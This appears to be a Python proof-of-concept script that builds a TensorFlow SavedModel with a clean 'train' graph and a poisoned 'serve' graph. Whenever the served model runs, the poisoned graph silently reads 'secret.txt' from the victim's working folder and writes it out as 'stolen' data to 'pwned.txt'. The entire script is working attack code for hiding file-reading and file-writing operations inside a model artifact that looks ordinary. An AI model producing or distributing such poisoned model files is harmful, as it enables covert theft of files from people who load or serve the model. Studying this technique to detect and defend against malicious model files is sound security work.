import tensorflow.compat.v1 as tf

tf.disable_v2_behavior()

# One SavedModel, two MetaGraphs over the same variables: the first (tag "train") is clean, the
# second (tag "serve", what servers and most loaders ask for) also reads and writes files.
with tf.Graph().as_default(), tf.Session() as sess:
    x = tf.placeholder(tf.float32, shape=(None,), name="x")
    w = tf.Variable(2.0, name="w")
    y = tf.multiply(x, w, name="y")
    sess.run(tf.global_variables_initializer())
    builder = tf.saved_model.builder.SavedModelBuilder("two_metagraphs")
    sign = tf.saved_model.signature_def_utils.predict_signature_def
    builder.add_meta_graph_and_variables(sess, ["train"], {"serving_default": sign({"x": x}, {"y": y})})

    secret = tf.io.read_file("secret.txt")  # relative paths: the victim's working folder
    write = tf.io.write_file("pwned.txt", tf.strings.join(["stolen: ", secret]))
    with tf.control_dependencies([write]):
        y_serve = tf.identity(y, name="y_serve")
    builder.add_meta_graph([tf.saved_model.SERVING], {"serving_default": sign({"x": x}, {"y": y_serve})})
    builder.save()
print("saved two_metagraphs/")
